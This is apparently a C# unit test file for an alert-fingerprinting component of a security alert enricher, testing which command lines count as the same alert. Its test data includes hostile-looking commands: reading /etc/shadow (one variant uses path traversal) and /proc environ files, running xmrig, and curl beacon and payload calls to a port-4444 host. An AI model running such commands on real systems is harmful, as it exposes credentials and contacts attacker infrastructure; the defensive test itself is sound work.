using Eyrie.Enricher.Scoring;

namespace Eyrie.Enricher.Tests.Scoring;

public sealed class AlertShapeTests
{
    private readonly AlertShape _shape = new();

    [Theory]
    [InlineData("kill -9 4711", "kill -9 12")] // a pid
    [InlineData("curl http://10.0.0.1:40251/x", "curl http://10.0.0.1:8080/x")] // a port
    [InlineData("sh /tmp/tmp.XkQzAbCdEf", "sh /tmp/tmp.qweRTYuiop")] // mktemp
    [InlineData("sh /tmp/tmpabc_def1/run", "sh /tmp/tmpxyz_q0/run")] // Python
    [InlineData("sh /dev/shm/.a81f", "sh /dev/shm/.b1")]
    [InlineData("cat /proc/812/environ", "cat /proc/99/environ")]
    [InlineData("docker exec 3f2ab91c77de sh", "docker exec 551e161c47d8 sh")] // a digest
    [InlineData("tar xf build-20261123.tar", "tar xf build-20261124.tar")]
    public void Takes_lines_for_alike_that_differ_by_chance(string one, string other)
    {
        Assert.Equal(AlertShape.Loose(one), AlertShape.Loose(other));
        Assert.Equal(Of(Alert(one)), Of(Alert(other)));
    }

    [Theory]
    [InlineData("sh -c id", "sh -c whoami; uname -a")]
    [InlineData("sh -c cat /etc/shadow >/dev/null", "sh -c cat /usr/share/../../etc/shadow >/dev/null")]
    [InlineData("php8.2 a.php", "python3 a.php")]
    [InlineData("/tmp/xmrig -o pool", "/tmp/nmap -o pool")]
    [InlineData("sh /tmp/tmp.XkQzAbCdEf", "bash /tmp/tmp.XkQzAbCdEf")]
    [InlineData("curl -s --max-time 1 http://192.0.2.10:4444/beacon", "curl -s --max-time 1 http://192.0.2.10:4444/payload")]
    public void Tells_apart_what_does_something_else(string one, string other) => Assert.NotEqual(Of(Alert(one)), Of(Alert(other)));

    [Fact]
    public void Looks_at_rule_subject_and_file_too()
    {
        var alert = Alert("cat x");

        Assert.Equal(Of(alert), Of(alert with { Id = "other", Time = An.At(5_000) }));
        Assert.NotEqual(Of(alert), Of(alert with { Rule = new("Another rule") }));
        Assert.NotEqual(Of(alert), Of(alert with { File = new("/etc/shadow") }));
        Assert.NotEqual(Of(alert), _shape.Of("another subject", alert, alert.Process));
        Assert.NotEqual(Of(alert with { Process = null, User = new() { Name = "a" } }), Of(alert with { Process = null, User = new() { Name = "b" } }));
    }

    [Fact]
    public void Reads_no_more_of_a_line_than_a_little()
    {
        var line = new string('a', 3_000);

        Assert.Equal(Of(Alert(line + "b")), Of(Alert(line + "c")));
    }

    private static Observation Alert(string line) => An.Alert(1_000, 7, line) with { Process = new() { Pid = 7, CommandLine = line, Executable = "/bin/" + line.Split(' ')[0].Split('/')[^1] } };

    private UInt128 Of(Observation alert) => _shape.Of("subject", alert, alert.Process);
}
